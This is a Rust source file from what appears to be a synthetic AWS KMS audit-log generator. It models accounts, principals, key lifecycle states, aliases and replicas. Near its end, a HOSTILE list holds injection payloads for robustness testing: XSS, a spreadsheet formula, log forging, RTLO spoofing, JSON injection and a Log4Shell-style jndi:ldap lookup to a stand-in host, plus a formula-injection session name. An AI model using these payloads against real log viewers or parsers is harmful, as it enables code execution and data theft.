//! The organisation: accounts, the principals in them, and the keys with their states.
//!
//! Account ids and names follow from their places, so that a configuration can be written before the generator runs; key
//! ids follow from the seed. The generator is consistent with itself: a key that it disabled refuses calls until it is
//! enabled. At most a fifth of the keys are out of use at once and a
//! twentieth deleted, so that a long run does not end in silence.

use dormouse_model::{AccountId, EventTime, KeyArn, LifecycleState, Region};

use super::catalogue::KeyClass;
use super::principals::{
    Principal, assumed_role, federated_user, iam_user, infrastructure, root, service, web_identity,
};
use super::{Popularity, Shape};
use crate::uuid::Uuid;

/// One invented key.
#[derive(Clone, Debug)]
pub struct Key {
    /// Which key.
    pub arn: KeyArn,
    /// The ARN as text.
    pub arn_text: Box<str>,
    /// What it is for.
    pub class: KeyClass,
    /// Whether AWS manages it: used by services, never changed.
    pub aws_managed: bool,
    /// Its state after the records so far.
    pub state: LifecycleState,
    /// The aliases (`alias/…`) that point at it after the records so far.
    pub aliases: Vec<Box<str>>,
    /// When it was made.
    pub created: EventTime,
}

pub(crate) struct Account {
    pub(crate) id: AccountId,
    pub(crate) principals: Vec<Principal>,
}

/// Keys of one class, to be chosen by popularity.
struct Chooser {
    members: Vec<usize>,
    /// The sum of the weights up to and including each member.
    sums: Vec<f64>,
}

pub(crate) struct World {
    pub(crate) accounts: Vec<Account>,
    pub(crate) regions: Vec<Region>,
    pub(crate) keys: Vec<Key>,
    choosers: Vec<Chooser>,
    popularity: Popularity,
    first_keys: usize,
    /// Keys made by records. Also chosen for calls now and then.
    young: Vec<usize>,
    pub(crate) disabled: Vec<usize>,
    pub(crate) pending: Vec<usize>,
    /// Multi-Region keys that were replicated, each with its replica.
    pub(crate) replicas: Vec<(usize, usize)>,
    deleted: usize,
    aliases_made: usize,
}

/// The account at this place: first the three of AWS's documentation, then invented ones.
pub(crate) fn account_at(place: usize) -> AccountId {
    const FIRST: [u64; 3] = [111_122_223_333, 444_455_556_666, 777_788_889_999];
    let invented = || 200_000_000_000 + (place as u64 * 7_919) % 700_000_000_000;
    let number = FIRST.get(place).copied().unwrap_or_else(invented);
    // Zero is an account id as well; the numbers above are all below the limit.
    AccountId::from_number(number).or_else(|| AccountId::from_number(0)).unwrap_or_else(|| account_at(0))
}

impl World {
    pub(crate) fn new(random: &mut fastrand::Rng, shape: &Shape) -> Self {
        let accounts = (0..shape.accounts.max(1)).map(|place| Account::new(random, place, shape)).collect();
        let mut world = Self {
            accounts,
            regions: shape.regions.clone(),
            keys: Vec::with_capacity(shape.keys),
            choosers: Vec::new(),
            popularity: shape.popularity,
            first_keys: shape.keys.max(1),
            young: Vec::new(),
            disabled: Vec::new(),
            pending: Vec::new(),
            replicas: Vec::new(),
            deleted: 0,
            aliases_made: 0,
        };
        if world.regions.is_empty() {
            world.regions.extend("eu-west-1".parse::<Region>());
        }
        for place in 0..world.first_keys {
            world.add_first_key(random, place, shape.start);
        }
        world.choosers = KeyClass::ALL
            .into_iter()
            .map(|class| Chooser::new(&world.keys, class, shape.popularity))
            .collect();
        world
    }

    fn add_first_key(&mut self, random: &mut fastrand::Rng, place: usize, start: EventTime) {
        let class = class_at(place);
        let aws_managed = class == KeyClass::Symmetric && place % 12 == 5;
        let account = self.accounts[place % self.accounts.len()].id;
        let region = self.regions[(place / self.accounts.len()) % self.regions.len()];
        let created = start.minus(random.u32(86_400..3 * 365 * 86_400));
        let Some(key) = self.add_key(random, (account, region), class, place % 10 == 7, created) else {
            return;
        };
        self.keys[key].aws_managed = aws_managed;
        if aws_managed {
            self.keys[key].aliases.push("alias/aws/ebs".into());
        } else if place.is_multiple_of(3) {
            self.keys[key].aliases.push(format!("alias/app-{place}").into());
        }
    }

    /// Adds a key with a new id.
    pub(crate) fn add_key(
        &mut self,
        random: &mut fastrand::Rng,
        (account, region): (AccountId, Region),
        class: KeyClass,
        multi_region: bool,
        created: EventTime,
    ) -> Option<usize> {
        let bits = random.u128(..);
        let id = if multi_region { format!("mrk-{bits:032x}") } else { Uuid::from_random(bits).to_string() };
        self.add_key_named(account, region, &id, class, created)
    }

    fn add_key_named(
        &mut self,
        account: AccountId,
        region: Region,
        id: &str,
        class: KeyClass,
        created: EventTime,
    ) -> Option<usize> {
        let arn = KeyArn::from_parts(region, account, id).ok()?;
        self.keys.push(Key {
            arn,
            arn_text: arn.to_string().into(),
            class,
            aws_managed: false,
            state: LifecycleState::Enabled,
            aliases: Vec::new(),
            created,
        });
        Some(self.keys.len() - 1)
    }

    /// Whether records may still make keys.
    pub(crate) fn may_grow(&self) -> bool {
        self.young.len() < self.first_keys.max(16)
    }

    /// Adds a key that a record makes.
    pub(crate) fn add_young_key(
        &mut self,
        random: &mut fastrand::Rng,
        place: (AccountId, Region),
        class: KeyClass,
        multi_region: bool,
        now: EventTime,
    ) -> Option<usize> {
        let key = self.add_key(random, place, class, multi_region, now)?;
        self.young.push(key);
        Some(key)
    }

    /// Adds a replica of a multi-Region key in another Region; `None` if it is in all of them.
    pub(crate) fn add_replica(&mut self, key: usize, now: EventTime) -> Option<usize> {
        let (arn, class) = (self.keys[key].arn, self.keys[key].class);
        let id = arn.id();
        let taken = |region: Region| {
            region == arn.region()
                || self.replicas.iter().flat_map(|&(key, replica)| [key, replica]).any(|other| {
                    let other = self.keys[other].arn;
                    other.region() == region && other.id() == id
                })
        };
        let region = self.regions.iter().copied().find(|&region| !taken(region))?;
        let replica = self.add_key_named(arn.account(), region, &id, class, now)?;
        self.young.push(replica);
        self.replicas.push((key, replica));
        Some(replica)
    }

    /// A key of this class by popularity, in any state; a young one now and then.
    pub(crate) fn choose(&self, random: &mut fastrand::Rng, class: KeyClass) -> usize {
        if !self.young.is_empty() && random.u8(..) < 8 {
            let key = self.young[random.usize(..self.young.len())];
            if self.keys[key].class == class {
                return key;
            }
        }
        let chooser = &self.choosers[class as usize];
        chooser
            .choose(random, self.popularity)
            .unwrap_or_else(|| random.usize(..self.first_keys.min(self.keys.len())))
    }

    /// Any customer managed key that meets the condition, each with the same chance; some key if none is found soon.
    pub(crate) fn choose_customer(
        &self,
        random: &mut fastrand::Rng,
        condition: impl Fn(&Key) -> bool,
    ) -> usize {
        let mut customer = 0;
        for _ in 0..64 {
            let key = random.usize(..self.keys.len());
            if self.keys[key].aws_managed {
                continue;
            }
            if condition(&self.keys[key]) {
                return key;
            }
            customer = key;
        }
        customer
    }

    /// Whether one more key may go out of use.
    pub(crate) fn may_silence(&self) -> bool {
        self.disabled.len() + self.pending.len() < (self.first_keys / 5).max(1)
    }

    /// Whether one more key may be deleted.
    pub(crate) fn may_delete(&self) -> bool {
        self.deleted < (self.first_keys / 20).max(1)
    }

    /// Moves a key to another state.
    pub(crate) fn set_state(&mut self, key: usize, state: LifecycleState) {
        self.disabled.retain(|&other| other != key);
        self.pending.retain(|&other| other != key);
        match state {
            LifecycleState::Disabled => self.disabled.push(key),
            LifecycleState::PendingDeletion => self.pending.push(key),
            LifecycleState::Deleted => self.deleted += 1,
            _ => {}
        }
        self.keys[key].state = state;
    }

    /// Another enabled symmetric key of the same Region, in the same account or in another one.
    pub(crate) fn neighbour(
        &self,
        random: &mut fastrand::Rng,
        key: usize,
        same_account: bool,
    ) -> Option<usize> {
        let arn = self.keys[key].arn;
        let fits = |other: &Key| {
            other.class == KeyClass::Symmetric
                && !other.aws_managed
                && other.state == LifecycleState::Enabled
                && other.arn != arn
                && other.arn.region() == arn.region()
                && (other.arn.account() == arn.account()) == same_account
        };
        // The first keys go round the accounts, then round the Regions.
        let stride = if same_account { self.accounts.len() * self.regions.len() } else { 1 };
        let first = random.usize(1..8);
        let candidates =
            (first..first + 24).map(|step| (key + step * stride) % self.first_keys.min(self.keys.len()));
        candidates.into_iter().find(|&other| fits(&self.keys[other]))
    }

    /// A name that no alias has yet.
    pub(crate) fn new_alias(&mut self) -> String {
        self.aliases_made += 1;
        format!("alias/team-{}/store", self.aliases_made)
    }

    /// The place of an account in the list.
    pub(crate) fn account_of(&self, key: usize) -> usize {
        let id = self.keys[key].arn.account();
        // The first keys go round the accounts; only young ones have to be looked for.
        let guess = key % self.accounts.len();
        if self.accounts[guess].id == id {
            return guess;
        }
        self.accounts.iter().position(|account| account.id == id).unwrap_or(0)
    }
}

impl Chooser {
    fn new(keys: &[Key], class: KeyClass, popularity: Popularity) -> Self {
        let members: Vec<usize> = (0..keys.len()).filter(|&key| keys[key].class == class).collect();
        let Popularity::Zipf(exponent) = popularity else {
            return Self { members, sums: Vec::new() };
        };
        let mut sum = 0.0;
        let mut sums = Vec::with_capacity(members.len());
        let mut rank = 0.0_f64;
        for _ in &members {
            rank += 1.0;
            sum += rank.powf(-exponent);
            sums.push(sum);
        }
        Self { members, sums }
    }

    fn choose(&self, random: &mut fastrand::Rng, popularity: Popularity) -> Option<usize> {
        if self.members.is_empty() {
            return None;
        }
        if popularity == Popularity::Uniform {
            return Some(self.members[random.usize(..self.members.len())]);
        }
        let point = random.f64() * self.sums.last()?;
        let place = self.sums.partition_point(|&sum| sum <= point).min(self.members.len() - 1);
        Some(self.members[place])
    }
}

/// Most keys are symmetric; seven keys are enough to have every class.
fn class_at(place: usize) -> KeyClass {
    match place % 20 {
        1 | 11 => KeyClass::Signing,
        2 => KeyClass::Mac,
        3 => KeyClass::Agreement,
        4 => KeyClass::Encapsulation,
        6 => KeyClass::Asymmetric,
        _ => KeyClass::Symmetric,
    }
}

/// What an attacker could have the log say.
pub(crate) const HOSTILE: [&str; 6] = [
    "<script>alert('kms')</script>",
    "=HYPERLINK(\"http://192.0.2.1\",\"open\")",
    "two\nlines \r\n level=error msg=\"forged\"",
    "\u{202e}gnp.exe \u{0} nul",
    "\"}],\"Records\":[{\"eventName\":\"Decrypt\"",
    "{{7*7}} ${jndi:ldap://192.0.2.1/a} %n%n",
];

/// So many principals of each account, the first ones, are people's and programs' own roles.
pub(crate) const OPERATORS: usize = 4;

impl Account {
    fn new(random: &mut fastrand::Rng, place: usize, shape: &Shape) -> Self {
        let id = account_at(place);
        let session_start = shape.start.minus(1_800);
        let mut principals = Vec::new();
        for role in ["payments-api", "orders-worker", "AWSReservedSSO_Engineer_0a1b2c3d4e5f6071", "backup"] {
            let session = match role {
                "orders-worker" => format!("i-{:017x}", random.u64(..) >> 4),
                "payments-api" => format!("botocore-session-{}", random.u32(1_700_000_000..1_800_000_000)),
                "backup" if shape.hostile => "=1+1,@SUM(A1)-_".to_owned(),
                _ => "mona.keeper@example.com".to_owned(),
            };
            principals.push(assumed_role(random, id, role, &session, session_start, None));
        }
        principals.push(assumed_role(
            random,
            id,
            "secrets-reader",
            "lambda-refresh",
            session_start,
            Some("secretsmanager.amazonaws.com"),
        ));
        principals.push(assumed_role(
            random,
            id,
            "import-job",
            "nightly",
            session_start,
            Some("AWS Internal"),
        ));
        principals.push(infrastructure(random, id, session_start));
        principals.push(service(id, "cloudtrail.amazonaws.com"));
        principals.push(service(id, "dynamodb.amazonaws.com"));
        principals.push(iam_user(random, id, "ops/alice"));
        principals.push(federated_user(random, id, session_start));
        principals.push(web_identity(id));
        principals.push(root(random, id, session_start));
        if shape.hostile {
            let mut hostile = iam_user(random, id, "ops/alice");
            hostile.user_agent = HOSTILE[0].into();
            principals.push(hostile);
        }
        Self { id, principals }
    }
}
